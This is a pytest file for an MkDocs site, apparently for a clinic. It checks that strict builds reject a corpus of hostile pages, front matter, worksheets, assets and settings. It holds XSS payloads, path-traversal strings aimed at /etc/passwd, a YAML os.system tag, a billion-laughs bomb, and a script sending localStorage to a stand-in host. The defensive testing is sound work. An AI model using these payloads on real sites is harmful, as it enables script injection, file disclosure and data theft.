"""A corpus of hostile and broken inputs, each in its own file, built with `mkdocs build --strict`.

Every input must fail the build with a message naming its file (and line where there is one) and what
to do, never a traceback or a hang; the good-but-unusual inputs must build with the page intact.
The inputs are grouped into a few builds (one per kind of file) so the suite stays fast.
"""

from __future__ import annotations

import json
import os

import pytest
from selectolax.lexbor import LexborHTMLParser

from conftest import BILLION_LAUGHS, REPO, build_once, make_site, page, real_config, run_mkdocs, squash

GOOD = "You can read this page in a minute. It is calm and plain."
OFF = "https://tracker.example"


def body(payload: str) -> str:
    """A page whose payload is on line 10 of the file."""
    return page("P", GOOD + "\n\n" + payload + "\n")


# name -> (file text, expected text in the build's messages). The payload of each is on line 10.
PAGE_HTML = {
    "script": ("<script>alert(1)</script>", ":10: The HTML element <script> was removed"),
    "svg-onload": ("<svg/onload=alert(1)>", ":10: The HTML element <svg> was removed"),
    "comment-breakout": ("<!--><script>alert(1)</script>-->", ":10: The HTML element <script> was removed"),
    "entity-cr-js-url": ("<a href='java&#13;script:alert(1)'>x</a>", ":10: The address 'java"),
    "colon-entity-js-url": ('<a href="javascript&colon;alert(1)">x</a>', ":10: The address 'javascript:alert(1)' on <a>"),
    "vbscript-url": ('<a href="vbscript:msgbox(1)">x</a>', ":10: The address 'vbscript:msgbox(1)' on <a>"),
    "data-html-url": ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', ":10: The address 'data:text/html"),
    "svg-animate": ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', ":10: The HTML element <svg> was removed"),
    "image-src": (f'<image src="{OFF}/i.png">', f":10: The picture '{OFF}/i.png' comes from another website"),
    "img-onerror": ('<img src="x.png" onerror="alert(1)" alt="x">', ":10: The attribute 'onerror' on <img> was removed"),
    "table-background": (f'<table background="{OFF}/b.png"><tr><td>x</td></tr></table>', ":10: The attribute 'background' on <table>"),
    "svg-image-href": (f'<svg><image href="{OFF}/i.png"/></svg>', ":10: The HTML element <svg> was removed"),
    "ping": (f'<a href="#p" ping="{OFF}/p">x</a>', ":10: The attribute 'ping' on <a> was removed"),
    "style-url": (f'<p style="background:url({OFF}/b.png)">x</p>', ":10: The style on <p> was removed"),
    "link-stylesheet": (f"<link rel=stylesheet href={OFF}/s.css>", ":10: The HTML element <link> was removed"),
    "style-import": (f'<style>@import "{OFF}/s.css";</style>', ":10: The HTML element <style> was removed"),
    "iframe": (f'<iframe src="{OFF}"></iframe>', ":10: The HTML element <iframe> was removed"),
    "object": ('<object data="x.swf"></object>', ":10: The HTML element <object> was removed"),
    "embed": ('<embed src="x.swf">', ":10: The HTML element <embed> was removed"),
    "form": (f'<form action="{OFF}"><input name="a"></form>', ":10: The HTML element <form> was removed"),
    "meta-refresh": (f'<meta http-equiv="refresh" content="0;url={OFF}">', ":10: The HTML element <meta> was removed"),
    "base": (f'<base href="{OFF}/">', ":10: The HTML element <base> was removed"),
    "attr-list-onclick": ('[Click](index.md){ onclick="steal()" }', ":10: The attribute 'onclick' on <a> was removed"),
    "dom-clobber-config": ('<div id="__config">{}</div>', ":10: The attribute 'id' on <div> was removed"),
    "details-ontoggle": ('<details open ontoggle="alert(1)"><summary>x</summary>y</details>', ":10: The attribute 'ontoggle'"),
    "math-mxss": ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ":10: The HTML element <math> was removed"),
    "noscript-mxss": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ":10: The HTML element <noscript> was removed"),
    "data-svg-img": ('<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">', ":10: The picture 'data:image/svg+xml"),
    "protocol-relative-video": ('<video src="//cdn.example/v.mp4"></video>', ":10: The HTML element <video> was removed"),
    "input-autofocus": ('<input type="text" onfocus="alert(1)" autofocus>', ":10: The attribute"),
    "markdown-js-link": ("[Tap here](JaVaScRiPt:alert(1))", ":10: The address 'JaVaScRiPt:alert(1)' on <a> was removed"),
    "markdown-remote-image": (f"![Logo]({OFF}/logo.png)", f":10: The picture '{OFF}/logo.png' comes from another website"),
    "mermaid": ('<pre class="mermaid">graph TD; A-->B</pre>', "a 'mermaid' diagram makes the theme load its diagram script"),
}

FRONT_MATTER = {
    "title-html": ("---\ntitle: <script>alert(1)</script>\ndescription: D.\nstatus: draft\n---\n# x\n\n" + GOOD + "\n",
                   ":2: 'title' holds HTML (<script>)"),
    "description-breakout": ('---\ntitle: T\ndescription: \'"><script>alert(1)</script>\'\nstatus: draft\n---\n# T\n\n' + GOOD + "\n",
                             ":3: 'description' holds HTML (<script>)"),
    "subtitle-html": ("---\ntitle: T\ndescription: D.\nstatus: draft\nsubtitle: <img src=x onerror=alert(1)>\n---\n# T\n\n" + GOOD + "\n",
                      ":5: 'subtitle' holds HTML (<img src=x onerror=alert(1)>)"),
    "reviewed-by-html": ("---\ntitle: T\ndescription: D.\nstatus: approved\nreviewed: 2026-01-01\nreview_due: 2026-12-01\n"
                         "reviewed_by: <b onmouseover=alert(1)>Lead</b>\n---\n# T\n\n" + GOOD + "\n",
                         ":7: 'reviewed_by' holds HTML"),
    "keywords-html": ("---\ntitle: T\ndescription: D.\nstatus: draft\nkeywords: [calm, <svg onload=alert(1)>]\n---\n# T\n\n" + GOOD + "\n",
                      ":5: 'keywords' holds HTML"),
    "entity-in-title": ("---\ntitle: Fear &amp; panic\ndescription: D.\nstatus: draft\n---\n# Fear &amp; panic\n\n" + GOOD + "\n",
                        ":2: 'title' holds an HTML code (&amp;)"),
    "template-path": ("---\ntitle: T\ndescription: D.\nstatus: draft\ntemplate: ../../../../etc/passwd\n---\n# T\n\n" + GOOD + "\n",
                      ":5: template: '../../../../etc/passwd' is not one of this site's page templates"),
    "template-redirect": ("---\ntitle: T\ndescription: D.\nstatus: draft\ntemplate: redirect.html\n---\n# T\n\n" + GOOD + "\n",
                          ":5: template: 'redirect.html' is not one of this site's page templates"),
    "icon-path": ("---\ntitle: T\ndescription: D.\nstatus: draft\nicon: ../../../x\n---\n# T\n\n" + GOOD + "\n",
                  ":5: icon: '../../../x' is not an icon of the theme"),
}

FRONT_MATTER.update({
    "anchor-alias": ("---\ntitle: &t T\ndescription: *t\nstatus: draft\n---\n# T\n\n" + GOOD + "\n",
                     ":2: YAML anchors and aliases (&name, *name) are not allowed"),
    "alias-loop": ("---\ntitle: T\ndescription: D.\nstatus: draft\nkeywords: &k [*k]\n---\n# T\n\n" + GOOD + "\n",
                   ":5: YAML anchors and aliases"),
    "alias-bomb": ("---\n" + BILLION_LAUGHS + "---\n# T\n\n" + GOOD + "\n",
                   ":2: YAML anchors and aliases"),
    "duplicate-key": ("---\ntitle: T\ndescription: D.\nstatus: draft\ntitle: Other\n---\n# Other\n\n" + GOOD + "\n",
                      ":5: 'title' appears twice (lines 2 and 5)"),
    "python-tag": ("---\ntitle: !!python/object/apply:os.system [id]\ndescription: D.\nstatus: draft\n---\n# T\n\n" + GOOD + "\n",
                   ":2: YAML tags such as '!!python/object/apply:os.system' are not allowed"),
    "deep-nesting": ("---\ntitle: T\ndescription: D.\nstatus: draft\nkeywords: " + "[" * 40000 + "]" * 40000 + "\n---\n# T\n\n"
                     + GOOD + "\n", ":5: The YAML is nested more than 32 levels deep"),
    "snippet-escape": (body('--8<-- "../../mkdocs.yml"'), ":10: The shared text '../../mkdocs.yml' points outside docs/_snippets/"),
    "snippet-absolute": (body('--8<-- "/etc/passwd"'), ":10: The shared text '/etc/passwd' is an absolute path"),
    "snippet-block": (body('--8<--\n../../../etc/hostname\n--8<--'), ":11: The shared text '../../../etc/hostname' points outside"),
    "snippet-missing": (body('--8<-- "warning-sings.md"'), ":10: The shared text 'warning-sings.md' does not exist"),
})

WORKSHEETS = {
    "title-html": ("title: <script>alert(1)</script>", ":2: 'title' holds HTML (<script>)"),
    "purpose-html": ('purpose: "<img src=x onerror=alert(1)>"', ":4: 'purpose' holds HTML"),
    "instructions-img": ('instructions: "Read. <img src=/etc/passwd>"', ":5: In 'instructions': The HTML element <img> was removed"),
    "instructions-attachment": ('instructions: "<a rel=attachment href=file:///proc/self/environ>env</a>"',
                                ":5: In 'instructions': The address 'file:///proc/self/environ' on <a> was removed"),
    "instructions-script": ("instructions: |\n  Fill it in.\n  <script>fetch('https://x.example/'+localStorage)</script>",
                            ":5: In 'instructions': The HTML element <script> was removed"),
}


def worksheet(name: str, replacement: str) -> str:
    """A valid worksheet with one line replaced: line 2 title, 4 purpose, 5 instructions, 11 a label."""
    text = (f"id: {name}\ntitle: A sheet\nsection: preparation\npurpose: What it is for.\ninstructions: Fill it in.\n"
            "pages: 1\nfields:\n  - kind: lines\n    id: one\n    lines: 2\n    label: My answer\n"
            "  - kind: checklist\n    id: two\n    label: Tick\n    items: [One, Two]\n")
    key = replacement.split(":")[0]
    lines = [replacement if line.startswith(key + ":") else line for line in text.splitlines()]
    return "\n".join(lines) + "\n"


WORKSHEET_FILES = {f"worksheets/ws-{name}.yml": worksheet(f"ws-{name}", line) for name, (line, _) in WORKSHEETS.items()}
WORKSHEET_FILES["worksheets/ws-label-html.yml"] = worksheet("ws-label-html", "title: A sheet").replace(
    "label: My answer", "label: <b onclick=alert(1)>My answer</b>")
WORKSHEET_FILES["worksheets/ws-item-html.yml"] = worksheet("ws-item-html", "title: A sheet").replace(
    "items: [One, Two]", "items: [One, <svg onload=alert(1)>]")
WORKSHEET_FILES["worksheets/ws-bomb.yml"] = BILLION_LAUGHS
WORKSHEET_FILES["worksheets/ws-duplicate.yml"] = worksheet("ws-duplicate", "title: A sheet").replace(
    "    label: My answer\n", "    label: My answer\n    label: Another\n")
WORKSHEET_EXPECTED = {f"worksheets/ws-{name}.yml": expected for name, (_, expected) in WORKSHEETS.items()}
WORKSHEET_EXPECTED.update({"worksheets/ws-label-html.yml": ":11: 'label' holds HTML (<b onclick=alert(1)>)",
                           "worksheets/ws-item-html.yml": ":15: 'items' holds HTML (<svg onload=alert(1)>)",
                           "worksheets/ws-bomb.yml": ":1: YAML anchors and aliases",
                           "worksheets/ws-duplicate.yml": ":12: 'label' appears twice (lines 11 and 12)"})

SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ASSETS = {
    "assets/images/script.svg": (SVG_SCRIPT, "docs/assets/images/script.svg:1: The SVG file holds <script>"),
    "assets/images/onload.svg": ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
                                 "docs/assets/images/onload.svg:1: The SVG file's <svg> has 'onload'"),
    "assets/images/foreign.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>x</p></foreignObject></svg>',
                                  "docs/assets/images/foreign.svg:1: The SVG file holds <foreignObject>"),
    "assets/images/js-link.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
                                  "docs/assets/images/js-link.svg:1: The SVG file's <a href> holds a 'javascript:' address"),
    "assets/images/remote.svg": (f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{OFF}/x.png"/></svg>',
                                 f"docs/assets/images/remote.svg:1: The SVG file's <image href> points to '{OFF}/x.png'"),
    "assets/images/entities.svg": ('<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
                                   "docs/assets/images/entities.svg:1: The SVG file declares entities"),
    "page.html": ("<html><script>alert(1)</script></html>", "docs/page.html: An HTML file cannot be published"),
    "notes.txt": ("private notes", "docs/notes.txt: 'notes.txt' is not a page, worksheet"),
    "secrets.env": ("TOKEN=1", "docs/secrets.env: 'secrets.env' is not a page, worksheet"),
    "assets/stylesheets/remote.css": (f'@import url("{OFF}/x.css");\nbody {{ color: red; }}',
                                      f"docs/assets/stylesheets/remote.css:1: It loads '{OFF}/x.css'"),
    "assets/stylesheets/font.css": (f'@font-face {{ font-family: x; src: url({OFF}/f.woff2); }}',
                                    f"docs/assets/stylesheets/font.css:1: It loads '{OFF}/f.woff2'"),
    "assets/javascripts/beacon.js": (f'fetch("{OFF}/collect", {{method: "POST"}});',
                                     "docs/assets/javascripts/beacon.js: 'beacon.js' is a script. Scripts are not published"),
}


@pytest.fixture(scope="module")
def corpus_build(tmp_path_factory):
    """One strict build holding every page, front matter and asset input above."""
    result, root = build_once(tmp_path_factory, "corpus", build_corpus)
    return result, root / "site"


def build_corpus(root):
    pages = {"index.md": page("Home", GOOD)}
    pages.update({f"cases/{name}.md": body(payload) for name, (payload, _) in PAGE_HTML.items()})
    pages.update({f"cases/{name}.md": text for name, (text, _) in FRONT_MATTER.items()})
    pages.update({name: text for name, (text, _) in ASSETS.items()})
    pages.update(WORKSHEET_FILES)
    config, site = make_site(root, pages, nav=["index.md", "get-help-now.md", {"Cases": [
        f"cases/{n}.md" for n in list(PAGE_HTML) + list(FRONT_MATTER)]}])
    os.symlink("/etc/hostname", root / "docs" / "cases" / "link-out.md")
    return run_mkdocs(config, site)


CASES = ([(name, f"docs/cases/{name}.md{expected if expected.startswith(':') else ''}",
           expected if not expected.startswith(":") else "") for name, (_, expected) in PAGE_HTML.items()]
         + [(name, f"docs/cases/{name}.md{expected}", "") for name, (_, expected) in FRONT_MATTER.items()]
         + [(name, expected, "") for name, (_, expected) in ASSETS.items()]
         + [(name, f"docs/{name}{expected}", "") for name, expected in WORKSHEET_EXPECTED.items()])


@pytest.mark.parametrize("name, expected, also", CASES, ids=[c[0] for c in CASES])
def test_each_hostile_input_is_named_in_the_strict_build(corpus_build, name, expected, also):
    result, _ = corpus_build
    assert result.returncode != 0
    assert "Traceback" not in result.stderr + result.stdout
    assert (expected + also) in result.stderr or (also and also in result.stderr), f"{name}: {expected} {also}"


def test_nothing_hostile_is_published(corpus_build):
    result, site = corpus_build
    assert "docs/cases/link-out.md: This is a link to a file outside the repository" in result.stderr
    assert not (site / "cases" / "link-out").exists()
    for name in ASSETS:
        assert not (site / name).exists(), name
    for html_file in site.rglob("*.html"):
        tree = LexborHTMLParser(html_file.read_text(errors="replace"))
        for node in tree.root.traverse(include_text=False):
            attrs = node.attributes
            assert not [a for a in attrs if a.startswith("on")], (html_file, node.tag, attrs)
            assert not any("tracker.example" in (v or "") for a, v in attrs.items() if a != "href"), (html_file, attrs)
            assert node.tag != "script" or "src" in attrs or attrs.get("type") == "application/json", html_file
            assert node.tag not in ("iframe", "object", "embed", "base", "math"), (html_file, node.tag)
            assert node.tag != "form" or "action" not in attrs, html_file  # the theme's search form posts nowhere


SETTINGS = {
    "extra.clinic.name": ("clinic name", "extra.clinic.name: holds HTML (<script>)"),
    "extra.clinic.email": ("clinic email", "extra.clinic.email: holds HTML (<img src=x onerror=alert(1)>)"),
    "extra.clinic.crisis_lines[0].note": ("crisis note", "extra.clinic.crisis_lines[0].note: holds HTML"),
    "copyright": ("copyright", "copyright: holds HTML (<a href=javascript:alert(1)>)"),
    "site_name": ("site name", "site_name: holds HTML"),
    "nav": ("nav title", "nav[1]: holds HTML (<img src=x onerror=alert(1)>)"),
    "theme.font": ("google fonts", "theme.font: loads the theme's fonts from Google"),
    "extra_javascript": ("cdn script", "extra_javascript: 'https://cdn.example/x.js' is loaded from another site"),
    "extra.analytics": ("analytics", "extra.analytics: sends every visit to an analytics service"),
    "extra.clinic.logo": ("external logo", "extra.clinic.logo: 'https://cdn.example/logo.svg' is loaded from another site"),
    "mermaid": ("mermaid fence", "a 'mermaid' fence makes the theme load its diagram script from a CDN"),
    "cache_dir": ("cache in docs", "extra.worksheets.cache_dir: 'docs' would mix the kept PDFs with the pages"),
    "after_hours.number": ("unquoted number", "extra.clinic.after_hours.number is a number in mkdocs.yml; phone numbers must be in quotes"),
}


@pytest.fixture(scope="module")
def settings_build(tmp_path_factory):
    """One strict build whose settings hold every hostile value above at once."""
    return build_once(tmp_path_factory, "settings", build_settings)


def build_settings(root):
    script = "<script>alert(1)</script>"
    extra = {"clinic": {"name": f"Clinic {script}", "phone": "+1 555 010 0199",
                        "email": "care@example.org<img src=x onerror=alert(1)>",
                        "logo": "https://cdn.example/logo.svg",
                        "after_hours": {"label": "Nurse", "number": 402995575},
                        "crisis_lines": [{"label": "Line", "number": "988", "note": f"Note {script}"}]},
             "analytics": {"provider": "google", "property": "G-XXXX"},
             "worksheets": {"cache_dir": "docs"}}
    config = {"copyright": "<a href=javascript:alert(1)>Us</a>", "site_name": f"Site {script}",
              "theme": {"font": {"text": "Roboto"}}, "extra_javascript": ["https://cdn.example/x.js"],
              "markdown_extensions": [{"pymdownx.superfences": {"custom_fences": [{"name": "mermaid", "class": "mermaid"}]}}
                                      if ext == "pymdownx.superfences" else ext
                                      for ext in real_config()["markdown_extensions"]]}
    config_path, site = make_site(root, {"index.md": page("Home", GOOD)},
                                  nav=["index.md", {"<img src=x onerror=alert(1)>": "get-help-now.md"}],
                                  extra=extra, config=config)
    return run_mkdocs(config_path, site)


@pytest.mark.parametrize("setting", SETTINGS, ids=[v[0] for v in SETTINGS.values()])
def test_each_hostile_setting_is_named_in_the_strict_build(settings_build, setting):
    result, root = settings_build
    assert result.returncode != 0
    assert "Traceback" not in result.stderr + result.stdout
    assert SETTINGS[setting][1] in result.stderr, result.stderr[-3000:]
    assert (root / "docs" / "index.md").exists()  # the worksheet cache never deletes pages
    report = json.loads((root / "report" / "report.json").read_text())
    assert any(SETTINGS[setting][1] in f"{f['path']}:{f['line']}: {f['message']}" or SETTINGS[setting][1] in f["message"]
               for f in report["findings"]), "the build report leaves it out"


# ---------------------------------------------------------------- good inputs that must keep working

def _front(title: str, extra: str = "") -> str:
    return f"---\ntitle: {title}\ndescription: About it.\nstatus: draft\n{extra}---\n# {title}\n\n{GOOD}\n"


GOOD_INPUTS = {
    "crlf.md": _front("Saved on Windows").replace("\n", "\r\n").encode(),
    "bom.md": "\ufeff".encode() + _front("Saved with a BOM").encode(),
    "keywords-string.md": _front("Keywords as text", "keywords: can I drive, tired after\n"),
    "emoji.md": _front("Feeling calm 🌿"),
    "trailing-spaces.md": _front("Spaces after").replace("# Spaces after", "# Spaces after" + " " * 1500),
    "impossible-date.md": _front("A draft with a wrong date", "reviewed: 2026-02-30\n"),
    "line-range.md": _front("Part of the signs").replace(GOOD, GOOD + "\n\n" + '--8<-- "warning-signs.md:1:3"\n\n'
                                                                        "[Get help now](get-help-now.md)"),
    "ampersand.md": _front("Fear & panic"),
}


@pytest.fixture(scope="module")
def good_build(tmp_path_factory):
    result, root = build_once(tmp_path_factory, "good", build_good)
    return result, root / "site"


def build_good(root):
    pages = {"index.md": page("Home", GOOD), **GOOD_INPUTS}
    return run_mkdocs(*make_site(root, pages))


def test_unusual_but_good_pages_build_intact(good_build):
    result, site = good_build
    assert result.returncode == 0, result.stderr
    for name, text in GOOD_INPUTS.items():
        html = (site / name[:-3] / "index.html").read_text()
        tree = LexborHTMLParser(html)
        article = tree.css_first("article").text()
        assert "status: draft" not in article and "---" not in article, name  # front matter is not shown as text
        assert tree.css_first(".kap-draft") is not None, f"{name}: the draft notice is missing"
        title = (text.decode("utf-8-sig") if isinstance(text, bytes) else text).split("title: ")[1].split("\n")[0].strip()
        assert tree.css_first("h1").text().replace("¶", "").strip() == title, name
    signs = squash(LexborHTMLParser((site / "line-range" / "index.html").read_text()).css_first("article").text())
    shared = [squash(line.strip("-*# ").replace("**", "")) for line in
              (REPO / "docs" / "_snippets" / "warning-signs.md").read_text(encoding="utf-8").splitlines()]
    assert all(line in signs for line in shared[:3] if line), "lines 1 to 3 of the shared text are included"
    assert all(line not in signs for line in shared[3:] if len(line) > 20), "and nothing after line 3"
    home_title = LexborHTMLParser((site / "ampersand" / "index.html").read_text()).css_first("title").text()
    assert home_title.startswith("Fear & panic")
